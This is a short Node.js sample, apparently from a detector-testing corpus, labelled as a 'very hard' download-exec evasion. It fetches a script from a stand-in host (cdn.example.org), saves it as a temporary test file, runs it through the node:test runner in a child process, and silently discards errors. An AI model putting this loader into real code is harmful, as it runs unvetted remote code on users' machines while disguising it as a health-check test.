// evasion: a downloaded script saved as a test file and run by the node:test runner (run({ files })), which starts it in a child node
// grade: very hard; does: download-exec
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { run } = require('node:test');

(async () => {
  const res = await fetch('https://cdn.example.org/checks/health.js');
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'checks-'));
  const file = path.join(dir, 'health.test.js');
  fs.writeFileSync(file, await res.text());
  run({ files: [file] }).on('data', () => {});
})().catch(() => {});
